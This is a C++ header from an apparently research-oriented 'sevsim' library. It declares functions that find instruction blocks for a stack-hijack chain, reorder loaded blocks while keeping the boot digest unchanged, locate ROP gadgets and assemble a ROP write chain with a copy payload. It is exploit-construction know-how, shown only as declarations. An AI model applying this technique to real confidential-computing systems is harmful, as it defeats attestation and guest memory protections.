#pragma once

#include <cstdint>
#include <optional>
#include <set>
#include <span>
#include <vector>

#include "sevsim/disasm.hpp"
#include "sevsim/owner.hpp"

namespace sevsim {

// ---------------------------------------------------------------------------
// Stage 1: block chains
// ---------------------------------------------------------------------------

enum class ExitKind { Fallthrough, Jmp };

/// A 16-byte block that, entered at entry_offset, runs one payload
/// instruction and then continues in whatever block is placed right after
/// it: either by running off the end (Fallthrough, next entry 0) or via a
/// direct jump that lands at next_entry in the following block.
struct ChainLink {
    std::size_t block_index = 0;
    std::uint8_t entry_offset = 0;
    InstrKind payload = InstrKind::Unknown;
    ExitKind exit = ExitKind::Fallthrough;
    std::uint8_t next_entry = 0;
    InstrKind jump = InstrKind::Unknown;  ///< JmpRel8/JmpRel32 for Jmp exits

    bool operator==(const ChainLink&) const = default;
};

/// Invariant checker: re-decodes the block and confirms every field.
bool link_is_valid(ByteSpan image, const ChainLink& link);

/// Links are valid individually, use distinct blocks, and each exit lands
/// on the next link's entry offset.
bool chain_is_valid(ByteSpan image, std::span<const ChainLink> chain);

/// All links for one payload kind, ordered by (block, entry). image length
/// must be a multiple of 16.
std::vector<ChainLink> scan_chain_links(ByteSpan image, InstrKind wanted);

struct ChainSearchOptions {
    /// Entry offset the boot flow reaches the first chain block at; any
    /// offset when unset.
    std::optional<std::uint8_t> entry_offset;
    /// Blocks the search may not use (e.g. code needed to reach the hook).
    std::set<std::size_t> excluded_blocks;
};

inline constexpr std::array<InstrKind, 3> kStackHijackSequence = {
    InstrKind::Cpuid, InstrKind::MovEspEcx, InstrKind::Ret};

/// Finds links realizing the payload sequence in order. Deterministic:
/// lowest block index, then lowest entry offset, wins. JmpRel32 exits are
/// only considered when no chain exists with fallthrough/rel8 exits.
/// Throws NoChainFound.
std::vector<ChainLink> build_block_chain(ByteSpan image, std::span<const InstrKind> payloads,
                                         const ChainSearchOptions& options = {});

// ---------------------------------------------------------------------------
// Digest-preserving permutation
// ---------------------------------------------------------------------------

struct Placement {
    std::size_t block_index = 0;
    std::uint64_t hpa = 0;
    bool operator==(const Placement&) const = default;
};

struct PermutationPlan {
    std::uint64_t gpa_base = 0;
    std::uint64_t hpa_base = 0;
    /// One entry per slot, ordered by target HPA.
    std::vector<Placement> placement;
    /// Loads in original data order; adjacent blocks whose HPAs stay
    /// contiguous are merged, never across a 4 KiB chunk of the image.
    std::vector<LoadCall> load_order;
    std::vector<ChainLink> chain;
    std::uint64_t chain_entry_hpa = 0;
    std::uint8_t chain_entry_offset = 0;

    bool is_identity() const;
    /// HPA each original block ends up at.
    std::vector<std::uint64_t> block_hpas() const;
    /// The image as laid out in memory after placement.
    Bytes placed_image(ByteSpan image) const;
    LoadPlan load_plan(DigestScheme scheme) const { return LoadPlan{load_order, scheme}; }
};

/// Load order for an arbitrary block -> HPA assignment (same merge rule as
/// PermutationPlan::load_order).
std::vector<LoadCall> data_order_loads(std::span<const std::uint64_t> block_hpas,
                                       std::uint64_t gpa_base, std::uint64_t hpa_base);

/// Places the chain contiguously starting at the hook block's slot and
/// swaps the displaced blocks into the chain blocks' old slots. Throws
/// PlacementConflict if any moved block is in do_not_move or the chain
/// would run past the image, InvalidArgument for an invalid chain.
PermutationPlan plan_permutation(ByteSpan image, std::span<const ChainLink> chain,
                                 std::size_t entry_hook, const std::set<std::size_t>& do_not_move,
                                 std::uint64_t gpa_base, std::uint64_t hpa_base);

// ---------------------------------------------------------------------------
// Stage 2: ROP write primitive
// ---------------------------------------------------------------------------

enum class RopKind { PopRax, PopRdx, WriteRdxToRax };

std::string_view rop_kind_name(RopKind kind);

inline constexpr std::size_t kMaxGadgetNops = 4;

struct RopGadget {
    std::uint64_t gva = 0;
    RopKind kind = RopKind::PopRax;
    Bytes pattern;  ///< payload, nops, ret
    bool operator==(const RopGadget&) const = default;
};

/// Offsets where pop rax / pop rdx / mov [rax], rdx is followed by up to
/// four nops and a ret. Ordered by gva.
std::vector<RopGadget> scan_rop_gadgets(ByteSpan image, std::uint64_t load_base_gva);

struct RopChain {
    std::vector<std::uint64_t> stack_words;

    /// Little-endian stack image.
    Bytes serialize() const;
};

struct QwordWrite {
    std::uint64_t gva = 0;
    std::uint64_t value = 0;
};

/// Per write: pop-rax gadget, target, pop-rdx gadget, value, write gadget;
/// then final_jump_gva. Uses the lowest-addressed gadget of each kind.
/// Throws MissingGadgetKind.
RopChain build_write_chain(std::span<const RopGadget> gadgets, std::span<const QwordWrite> writes,
                           std::uint64_t final_jump_gva);

/// Splits code into 8-byte writes at base_gva (last one padded with nops).
std::vector<QwordWrite> code_writes(ByteSpan code, std::uint64_t base_gva);

/// pop rsi; pop rdi; pop rcx; rep movsb; hlt
Bytes copy_payload();

}  // namespace sevsim
